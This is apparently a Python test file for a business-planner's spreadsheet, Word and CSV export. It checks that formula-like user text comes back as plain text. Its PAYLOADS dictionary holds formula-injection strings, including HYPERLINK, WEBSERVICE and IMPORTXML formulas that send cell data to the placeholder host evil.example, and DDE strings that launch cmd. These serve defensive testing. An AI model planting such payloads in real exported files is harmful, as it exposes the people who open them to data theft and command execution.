"""Founder text that a spreadsheet would take as a formula comes back as text, everywhere."""

from __future__ import annotations

import io

import docx
import openpyxl
import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from planner.engine.pipeline import project
from planner.export import document_bytes, workbook_bytes
from planner.export.safety import FORMULA_TRIGGERS, plain_text
from planner.export.tables import csv_bytes
from planner.model.files import load_plan, plan_from_dict, plan_to_dict
from planner.model.plan import Plan
from tests.support.tools import ROOT

PAYLOADS = {
    "client": '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "role": "+cmd|' /C calc'!A0",
    "channel": "-2+3+cmd|' /C notepad'!'A1'",
    "loan": "@SUM(1+1)*cmd|' /C calc'!A0",
    "item": "=1+1",
    "paper": '=WEBSERVICE("http://evil.example")',
    "name": '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
}


def hostile_plan() -> Plan:
    """The voice template with a formula-like string in every kind of name and narrative."""
    data = plan_to_dict(load_plan(ROOT / "templates" / "plans" / "offshore_voice_support.yaml"))
    data["settings"]["name"] = PAYLOADS["name"]
    data["settings"]["location"] = "=2+5"
    data["business_plan"]["clients"][0]["name"] = PAYLOADS["client"]
    data["business_plan"]["narrative"]["executive_summary"] = "=SUM(A1:A9) is not a summary"
    data["staffing"]["roles"][0]["name"] = PAYLOADS["role"]
    data["marketing"]["channels"][0]["name"] = PAYLOADS["channel"]
    data["financing"]["loans"][0]["name"] = PAYLOADS["loan"]
    data["resources"]["items"][0]["name"] = PAYLOADS["item"]
    data["paperwork"]["items"][0]["name"] = PAYLOADS["paper"]
    data["sources"] = {"staffing.shrinkage": '=HYPERLINK("http://evil.example")'}
    return plan_from_dict(data)


def test_formula_like_text_is_written_as_text_cells() -> None:
    content = workbook_bytes(project(hostile_plan()))
    wb = openpyxl.load_workbook(io.BytesIO(content))  # formulas as written, not values
    found: dict[str, int] = dict.fromkeys(PAYLOADS.values(), 0)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in found:
                    found[cell.value] += 1
                    assert cell.data_type == "s", f"{ws.title}!{cell.coordinate} is not text"
                    assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} lacks the quote prefix"
                elif cell.data_type == "f":
                    # Our own formulas never carry founder text.
                    assert "evil" not in str(cell.value) and "cmd|" not in str(cell.value)
    missing = [text for text, count in found.items() if count == 0 and text != PAYLOADS["name"]]
    assert not missing, f"not written anywhere: {missing}"
    # the plan name is in the Summary title and on the Assumptions sheet
    assert found[PAYLOADS["client"]] >= 2  # Assumptions and each month on Revenue


def test_formula_like_text_comes_back_as_text_in_the_document() -> None:
    result = document_bytes(project(hostile_plan()))
    text = "\n".join(p.text for p in docx.Document(io.BytesIO(result.content)).paragraphs)
    cells = "\n".join(
        c.text
        for t in docx.Document(io.BytesIO(result.content)).tables
        for r in t.rows
        for c in r.cells
    )
    assert PAYLOADS["name"] in text
    assert "=SUM(A1:A9) is not a summary" in text
    assert PAYLOADS["client"] in cells


def test_csv_tables_prefix_formula_like_text() -> None:
    frame = pd.DataFrame({"client": ["=1+1", "Acme", "@x", "-5 off"], "revenue": [1.0, 2, 3, 4]})
    text = csv_bytes(frame).decode("utf-8-sig").splitlines()
    assert text[1:] == ["'=1+1,1.0", "Acme,2.0", "'@x,3.0", "'-5 off,4.0"]


def test_plain_text_examples() -> None:
    assert plain_text("=1+1") == ("=1+1", True)
    assert plain_text("Acme Ltd") == ("Acme Ltd", False)
    assert plain_text("\x00=cmd") == ("=cmd", True)  # a control character cannot hide a trigger
    assert plain_text(None) == ("", False)
    assert plain_text("line one\nline two").text == "line one\nline two"


@given(st.text(max_size=60))
def test_plain_text_never_leaves_a_formula_unflagged(value: str) -> None:
    safe = plain_text(value)
    if safe.text.startswith(FORMULA_TRIGGERS):
        assert safe.formula_like
    assert not safe.for_csv().startswith(FORMULA_TRIGGERS)
    assert all(ch >= " " or ch in "\n\t" for ch in safe.text)
